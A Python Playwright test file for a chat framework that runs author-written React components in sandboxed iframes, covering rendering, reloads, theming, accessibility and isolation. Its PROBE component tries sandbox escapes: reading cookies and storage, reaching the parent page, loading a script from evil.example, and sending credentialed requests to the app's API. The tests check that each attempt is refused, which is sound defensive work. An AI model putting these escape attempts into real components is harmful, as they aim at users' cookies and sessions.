"""Components of an author's own, in a real Chromium."""

import asyncio
import sys
from pathlib import Path
from typing import Any

import pytest
from playwright.async_api import expect

from tests.browser.conftest import AXE

pytestmark = [pytest.mark.browser, pytest.mark.timeout(180)]

EXAMPLES = Path(__file__).parents[2] / "examples"

COUNTER = """
import { Button } from "@/components/ui/button"
import { X } from 'lucide-react'
import { useEffect } from 'react'

export default function Counter() {
    return (
        <div id="custom-counter" className="mt-4 flex flex-col gap-2">
            <div>Count: {props.count}</div>
            {props.loading ? "Loading..." : null}
            <Button onClick={() => updateElement(Object.assign(props, {count: props.count + 1}))}>Increment</Button>
            <Button onClick={async () => {
                await updateElement(Object.assign(props, {loading: true}))
                await callAction({name: "test", payload: {}})
                await updateElement(Object.assign(props, {loading: false}))
            }}>Run test action</Button>
            <Button onClick={() => sendUserMessage("from the element")}>Say</Button>
            <Button onClick={() => callAction({name: "fail"})}>Fail</Button>
            <Button onClick={deleteElement}><X/> Remove</Button>
        </div>
    );
}
"""

COUNTER_APP = """
import convo as cl

@cl.action_callback("test")
async def on_test(action):
    await cl.Message("Executed test action!").send()
    return {"done": True}

@cl.action_callback("fail")
async def on_fail(action):
    raise ValueError("not today")

@cl.on_chat_start
async def start():
    await cl.Message("Here it is.", elements=[cl.CustomElement("Counter", props={"count": 1})]).send()

@cl.on_message
async def answer(message):
    await cl.Message("You said: " + message.content).send()
"""

SHOW = """
import convo

@convo.on_chat_start
async def start():
    await convo.Message("Look:", elements=[convo.CustomElement("Part", props={props})]).send()
"""

PROBE = """
import { useEffect, useState } from "react"

const tries = {
    cookie: () => document.cookie,
    localStorage: () => localStorage.length,
    sessionStorage: () => sessionStorage.length,
    parent: () => parent.document.title,
    top: () => top.document.body.innerHTML,
    frameElement: () => { if (frameElement === null) throw new Error("none") },
    location: () => parent.location.href,
    navigate: () => { top.location.href = "https://evil.example/"; return new Promise(r => setTimeout(r, 300)) },
    open: () => { if (open("https://evil.example/") === null) throw new Error("no window") },
    fetch: () => fetch(new URL("api/v1/app", document.baseURI), { credentials: "include" }),
    post: () =>
        fetch(new URL("api/v1/threads", document.baseURI), { method: "POST", credentials: "include", mode: "no-cors" }),
    socket: () => new Promise((done, failed) => {
        const socket = new WebSocket(new URL("ws/socket.io/?EIO=4&transport=websocket", document.baseURI))
        socket.onopen = done
        socket.onerror = failed
    }),
    eval: () => eval("1"),
    script: () => new Promise((done, failed) => {
        const script = document.createElement("script")
        script.onload = done
        script.onerror = failed
        script.src = "https://evil.example/x.js"
        document.head.append(script)
    }),
    alert: () => { if (confirm("?") === false) throw new Error("no dialog") },
}

export default function Probe() {
    const [results, setResults] = useState({})
    useEffect(() => {
        for (const [name, attempt] of Object.entries(tries)) {
            new Promise((done) => done(attempt())).then(
                () => setResults((all) => ({ ...all, [name]: "worked" })),
                () => setResults((all) => ({ ...all, [name]: "refused" })),
            )
        }
    }, [])
    return <ul>{Object.entries(results).map(([name, result]) => <li key={name}>{name}: {result}</li>)}</ul>
}
"""


OF_PAGES = ("page-has-heading-one", "region", "landmark-one-main", "bypass")
"""Rules for whole pages, which a frame is not."""


def frame_of(chat: Any, at: int = 0) -> Any:
    return chat.page.frame_locator("iframe.custom-frame").nth(at)


@pytest.fixture
def put(tmp_path: Path) -> Any:
    """Writes a component into the app's folder."""

    def put(source: str, name: str = "Part.jsx") -> None:
        folder = tmp_path / "public" / "elements"
        folder.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(source)

    return put


def put_examples(put: Any) -> str:
    for path in (EXAMPLES / "public" / "elements").iterdir():
        put(path.read_text("utf-8"), path.name)
    return (EXAMPLES / "custom_element.py").read_text("utf-8")


async def violations_within(chat: Any) -> list[str]:
    """What axe-core finds wrong in the frames."""
    found = []
    for frame in chat.page.frames[1:]:
        await frame.evaluate(AXE.read_text("utf-8"))
        result = await frame.evaluate(
            "axe.run(document, { rules: Object.fromEntries(arguments_) })".replace(
                "arguments_", str([[rule, {"enabled": False}] for rule in OF_PAGES]).replace("False", "false")
            )
        )
        found += [f"{rule['id']}: {[node['target'] for node in rule['nodes']]}" for rule in result["violations"]]
    return found


async def test_a_ticket_moves_on_and_a_table_is_booked(serve: Any, open_tab: Any, put: Any) -> None:
    server = await serve(app=put_examples(put))
    chat = await open_tab(server.url)
    ticket = frame_of(chat)
    await ticket.get_by_text("EN-12").wait_for()
    await ticket.get_by_role("button", name="Move on").click()
    await ticket.get_by_text("In progress").wait_for()
    await chat.say("a table, please")
    form = frame_of(chat, 1)
    await form.get_by_role("button", name="Book").wait_for()
    await chat.page.get_by_role("timer").wait_for()
    await chat.portray("custom")
    assert await violations_within(chat) == []

    other = await open_tab(chat.page.url)
    await frame_of(other, 1).get_by_role("button", name="Book").wait_for()
    await chat.page.bring_to_front()  # a frame out of sight hears no mouse
    await chat.page.reload()
    await ticket.get_by_text("EN-12").wait_for()
    await form.get_by_role("button", name="Book").wait_for()
    await form.get_by_label("Room").select_option("Library")
    await form.get_by_role("slider", name="Seats").press("ArrowRight")
    await form.get_by_role("button", name="Book").click()
    for tab in (chat, other):
        await tab.sees("Booked: 2026-12-01, library, seats for 3.")
        await tab.sees("Submitted")
        await tab.page.wait_for_function("() => document.querySelectorAll('.custom-frame').length === 1")
    assert server.complaints == []


async def test_an_element_that_asks_is_left(serve: Any, open_tab: Any, put: Any) -> None:
    server = await serve(app=put_examples(put))
    chat = await open_tab(server.url)
    await chat.say("a table, please")
    await frame_of(chat, 1).get_by_role("button", name="Not now").click()
    await chat.sees("Then another time.")
    await chat.sees("Skipped")


async def test_a_component_of_an_existing_app_runs_as_it_is(serve: Any, open_tab: Any, put: Any) -> None:
    put(COUNTER, "Counter.jsx")
    server = await serve(app=COUNTER_APP)
    chat = await open_tab(server.url)
    counter = frame_of(chat)
    await counter.get_by_text("Count: 1").wait_for()
    await counter.get_by_role("button", name="Increment").click()
    await counter.get_by_text("Count: 2").wait_for()
    await counter.get_by_role("button", name="Run test action").click()
    await chat.sees("Executed test action!")
    await counter.get_by_text("Loading...").wait_for(state="detached")
    await counter.get_by_role("button", name="Say").click()
    await chat.sees("You said: from the element")
    await chat.page.wait_for_url("**/thread/*")
    other = await open_tab(chat.page.url)
    await frame_of(other).get_by_text("Count: 2").wait_for()
    await chat.page.bring_to_front()
    gap = await counter.locator("#custom-counter").evaluate("element => getComputedStyle(element).rowGap")
    assert gap == "7.5px"  # half of the page's rem
    await counter.get_by_role("button", name="Fail").click()
    await chat.sees("Something went wrong in the app.")
    await counter.get_by_role("button", name="Remove").click()
    for tab in (chat, other):
        await tab.page.locator("iframe").wait_for(state="detached")


async def test_a_component_reaches_nothing_but_its_element(serve: Any, context: Any, put: Any) -> None:
    put(PROBE)
    server = await serve(app=SHOW.replace("{props}", "{}"))
    page = await context.new_page()
    asked: list[str] = []
    failed: list[Any] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("requestfailed", lambda request: failed.append(request))
    await page.goto(server.url)
    url = page.url
    frame = page.frame_locator("iframe")
    await expect(frame.locator("li")).to_have_count(15, timeout=30_000)
    results = dict(line.split(": ") for line in await frame.locator("li").all_inner_texts())
    navigated = results.pop("navigate")
    assert set(results.values()) == {"refused"}, results
    assert len(results) == 14
    assert navigated in ("worked", "refused")  # the attempt may be silent; what counts is where the page is
    assert page.url == url
    assert {request.failure for request in failed if "evil.example" in request.url} == {"csp"}
    assert not any(one.endswith("/api/v1/threads") for one in asked)
    assert await page.evaluate("document.querySelector('iframe').contentDocument") is None
    assert await page.locator("iframe").get_attribute("sandbox") == "allow-scripts allow-forms"


async def test_the_api_refuses_a_frame_that_may_talk_to_its_host(serve: Any, context: Any, put: Any) -> None:
    put("""
        export default function Part() {
            const [said, setSaid] = React.useState("…")
            React.useEffect(() => {
                const url = new URL("api/v1/threads", document.baseURI)
                fetch(url, { method: "POST", credentials: "include", mode: "no-cors" })
                    .then(() => setSaid("sent"), () => setSaid("failed"))
            }, [])
            return <p>It was {said}.</p>
        }
    """)
    anywhere = {"FEATURES__ELEMENTS__CONNECT": '["http://127.0.0.1:*"]'}
    server = await serve(app=SHOW.replace("{props}", "{}"), settings=anywhere)
    page = await context.new_page()
    refused = asyncio.Queue[Any]()
    page.on("requestfailed", lambda request: request.url.endswith("/threads") and refused.put_nowait(request))
    await page.goto(server.url)
    await page.frame_locator("iframe").get_by_text("It was failed.").wait_for()
    request = await asyncio.wait_for(refused.get(), 15)
    assert "ERR_BLOCKED_BY_RESPONSE" in request.failure  # what it was answered, 401, is kept from it too
    assert "cookie" not in await request.all_headers()
    assert await page.evaluate("fetch('api/v1/threads').then((answer) => answer.json())") == {"threads": []}


async def test_what_a_frame_says_is_checked(serve: Any, context: Any, put: Any) -> None:
    put("""
        export default function Part() {
            const [said, setSaid] = React.useState([])
            const add = (text) => setSaid((all) => [...all, text])
            React.useEffect(() => {
                const failed = (error) => add(error.message)
                updateElement({ big: "x".repeat(2_000_000) }).then(() => add("big worked"), failed)
                submit({}).then(() => add("submit worked"), failed)
                for (const data of [null, 1, "x", [], { kind: "wish" }, { kind: "height" }, { type: "convo:start" }])
                    parent.postMessage(data, "*")
            }, [])
            return <div><p>{props.text}</p>{said.map((text) => <p key={text}>{text}</p>)}</div>
        }
    """)
    server = await serve(app=SHOW.replace("{props}", '{"text": "as it was"}'))
    page = await context.new_page()
    complaints: list[str] = []
    page.on("pageerror", lambda error: complaints.append(str(error)))
    await page.goto(server.url)
    frame = page.frame_locator("iframe")
    await frame.get_by_text("What it asked for cannot be read, or is too large.").wait_for()
    await frame.get_by_text("Nobody waits for an answer to this.").wait_for()
    await frame.get_by_text("as it was").wait_for()
    assert complaints == []
    assert server.complaints == []


async def test_a_frame_that_leaves_is_taken_away(serve: Any, context: Any, put: Any) -> None:
    put("""
        export default function Part() {
            return <button onClick={() => { location.href = new URL("health", document.baseURI).href }}>Leave</button>
        }
    """)
    server = await serve(app=SHOW.replace("{props}", "{}"))
    page = await context.new_page()
    await page.goto(server.url)
    await page.frame_locator("iframe").get_by_role("button", name="Leave").click()
    await page.get_by_text("This part of the app could not be shown.").wait_for()
    assert await page.locator("iframe").count() == 0


BROKEN = {
    "compile": ("export default function Part() {\n  return <p>\n}\n", "public/elements/Part.jsx:"),
    "import": (
        'import React from "react"\nimport _ from "lodash"\nexport default () => <p>{_.now()}</p>\n',
        "public/elements/Part.jsx:2",
    ),
    "run": (
        "function Inner() {\n  return <p>{props.missing.name}</p>\n}\nexport default function Part() {\n"
        "  return <section><Inner /></section>\n}\n",
        "public/elements/Part.jsx:2\n",
    ),
}


@pytest.mark.parametrize("how", BROKEN)
async def test_an_author_sees_what_is_wrong_and_mends_it(serve: Any, open_tab: Any, put: Any, how: str) -> None:
    source, where = BROKEN[how]
    put(source)
    server = await serve("-w", app=SHOW.replace("{props}", '{"name": "Ada"}'))
    chat = await open_tab(server.url)
    trouble = chat.page.locator(".custom-trouble")
    await trouble.wait_for()
    text = await trouble.inner_text()
    assert where in text, text
    if how == "import":
        assert "`lodash` cannot be imported" in text
        assert "lucide-react" in text
    if how == "run":
        assert "TypeError" in text
        assert "in section" in text
        await chat.portray("custom-trouble")
    put("export default function Part() {\n  return <p>Hello {props.name}</p>\n}\n")
    await frame_of(chat).get_by_text("Hello Ada").wait_for()
    assert await trouble.count() == 0


async def test_a_user_sees_a_calm_word_instead(serve: Any, open_tab: Any, put: Any) -> None:
    put(BROKEN["run"][0])
    server = await serve(app=SHOW.replace("{props}", "{}"))
    chat = await open_tab(server.url)
    await chat.sees("This part of the app could not be shown.")
    assert "TypeError" not in await chat.transcript()
    await chat.portray("custom-broken")


async def test_a_missing_component_says_where_it_was_looked_for(
    serve: Any, open_tab: Any, put: Any, tmp_path: Path
) -> None:
    server = await serve("-w", app=SHOW.replace("{props}", "{}"))
    chat = await open_tab(server.url)
    await chat.sees("The component “Part” is missing")
    await chat.sees(f"{tmp_path}/public/elements/Part.jsx")
    put("export default () => <p>Here now</p>")
    await frame_of(chat).get_by_text("Here now").wait_for()


async def test_a_saved_component_is_shown_without_a_reload(serve: Any, open_tab: Any, put: Any) -> None:
    put("export default function Part() { return <p>one {props.n}</p> }")
    server = await serve("-w", app=SHOW.replace("{props}", '{"n": 7}'))
    chat = await open_tab(server.url)
    await frame_of(chat).get_by_text("one 7").wait_for()
    await chat.page.evaluate("window.marked = true; document.querySelector('iframe').marked = true")
    put("export default function Part() { return <b>two {props.n}</b> }")
    await frame_of(chat).get_by_text("two 7").wait_for()
    assert await chat.page.evaluate("window.marked && document.querySelector('iframe').marked")


async def test_the_look_of_the_page_is_that_of_the_frame(serve: Any, open_tab: Any, put: Any) -> None:
    put("""
        import { useTheme } from "convo"
        export default function Part() {
            return (
                <div className="bg-primary text-primary-foreground dark:p-4">
                    <p style={{ outline: "1px solid hsl(var(--ring))" }}>{useTheme()}</p>
                </div>
            )
        }
    """)
    server = await serve(app=SHOW.replace("{props}", "{}"))
    chat = await open_tab(server.url)
    frame = frame_of(chat)
    await frame.get_by_text("light").wait_for()
    here = "element => getComputedStyle(element).backgroundColor"
    assert await frame.locator("#root > div").evaluate(here) == "oklch(0.5 0.16 268)"
    await chat.page.evaluate("document.documentElement.style.setProperty('--accent', 'rgb(1, 2, 3)')")
    await chat.page.emulate_media(color_scheme="dark")
    await frame.get_by_text("dark").wait_for()
    assert await frame.locator("#root > div").evaluate(here) == "rgb(1, 2, 3)"
    assert await frame.locator("#root > div").evaluate("e => getComputedStyle(e).paddingTop") == "15px"
    assert await frame.locator("html").evaluate("e => getComputedStyle(e).colorScheme") == "dark"


async def test_fifty_elements_cost_one_load_and_come_when_they_are_near(serve: Any, open_tab: Any, put: Any) -> None:
    put('import { Card } from "@/components/ui/card"\nexport default () => <Card className="p-4">Part {props.n}</Card>')
    app = """
import convo

@convo.on_chat_start
async def start():
    for n in range(50):
        await convo.Message(f"Number {n}", elements=[convo.CustomElement("Part", props={"n": n})]).send()
"""
    server = await serve(app=app)
    chat = await open_tab(server.url)
    shown = chat.page.locator("iframe.custom-frame")
    await shown.last.content_frame.get_by_text("Part 49").wait_for()  # until then it may still ask, beside the next
    asked: list[str] = []
    chat.page.on("request", lambda request: asked.append(request.url))
    await chat.page.reload()
    await chat.sees("Number 49")
    await shown.last.content_frame.get_by_text("Part 49").wait_for()
    assert 1 <= await shown.count() < 25
    await chat.page.locator(".scroll").evaluate("element => element.scrollTo(0, 0)")
    await chat.page.frame_locator("iframe.custom-frame >> nth=0").get_by_text("Part 0").wait_for()
    scripts = [url for url in asked if "/assets/runtime" in url or "/assets/compiler" in url or "/elements/Part" in url]
    assert len(scripts) == len(set(scripts)) == 3, scripts


async def test_the_keyboard_goes_in_and_out_and_links_leave_by_the_page(
    serve: Any, open_tab: Any, context: Any, put: Any
) -> None:
    put("""
        import { Button } from "@/components/ui/button"
        export default function Part() {
            return <div><Button>First</Button><a href={new URL("health", document.baseURI).href}>Elsewhere</a></div>
        }
    """)
    server = await serve(app=SHOW.replace("{props}", "{}"))
    chat = await open_tab(server.url)
    frame = frame_of(chat)
    assert "Part" in (await chat.page.locator("iframe").get_attribute("title"))
    await frame.get_by_role("button", name="First").focus()
    await chat.page.keyboard.press("Tab")
    await expect(frame.get_by_role("link")).to_be_focused()
    await chat.page.keyboard.press("Tab")
    await chat.page.wait_for_function("() => document.activeElement.tagName !== 'IFRAME'")
    await chat.page.keyboard.press("Shift+Tab")
    await expect(frame.get_by_role("link")).to_be_focused()
    async with context.expect_page() as opened:
        await chat.page.keyboard.press("Enter")
    page = await opened.value
    await page.wait_for_url(f"{server.url}/health")
    assert await page.evaluate("opener") is None
    await frame.get_by_text("First").wait_for()


BESIDE = """
import convo

@convo.on_chat_start
async def start():
    elements = [
        convo.CustomElement("Part", props={"where": "beside"}, display="side"),
    ]
    await convo.Message("The Part is there.", elements=elements).send()
"""


async def test_a_component_stands_beside_the_conversation_or_on_a_page_of_its_own(
    serve: Any, open_tab: Any, put: Any
) -> None:
    put("""
        import { useElement } from "convo"
        export default function Part() {
            const { props, place } = useElement()
            return <p>{props.where}: {place}</p>
        }
    """)
    for display in ("side", "page"):
        server = await serve(app=BESIDE.replace('"side"', f'"{display}"'))
        chat = await open_tab(server.url)
        await chat.page.locator("main").get_by_text("Part", exact=True).first.click()
        await frame_of(chat).get_by_text(f"beside: {display}").wait_for()
        await chat.shot(f"custom-{display}")
        await server.end()


GAUGE_APP = """
import convo

@convo.on_message
async def answer(message):
    oven = convo.CustomElement("Gauge", props={"label": "Oven", "value": 180, "most": 250})
    await convo.Message("How hot?", elements=[oven]).send()
"""


async def test_a_component_that_a_package_brings_is_drawn_and_used(
    serve: Any, open_tab: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    site = tmp_path / "site-packages"
    options = ("--quiet", "--no-deps", "--no-build-isolation", "--python", sys.executable, "--target", str(site))
    install = await asyncio.create_subprocess_exec("uv", "pip", "install", *options, str(EXAMPLES / "plugin"))
    assert await install.wait() == 0
    monkeypatch.setenv("PYTHONPATH", str(site))
    server = await serve(app=GAUGE_APP)
    chat = await open_tab(server.url)
    await chat.say("show")
    await chat.sees("How hot?")
    gauge = frame_of(chat)
    await gauge.get_by_text("Oven").wait_for()
    meter = gauge.get_by_role("meter", name="Oven")
    assert await meter.evaluate("(one) => [one.value, one.max]") == [180, 250]
    await gauge.get_by_role("button", name="More").click()
    await gauge.get_by_text("205").wait_for()
    for _ in range(3):
        await gauge.get_by_role("button", name="More").click()
    await gauge.get_by_text("250").wait_for()
    await chat.portray("custom-gauge")
    assert await violations_within(chat) == []
    await chat.page.reload()
    await gauge.get_by_text("250").wait_for()
    assert await meter.evaluate("(one) => [one.value, one.max]") == [250, 250]
    assert server.complaints == []
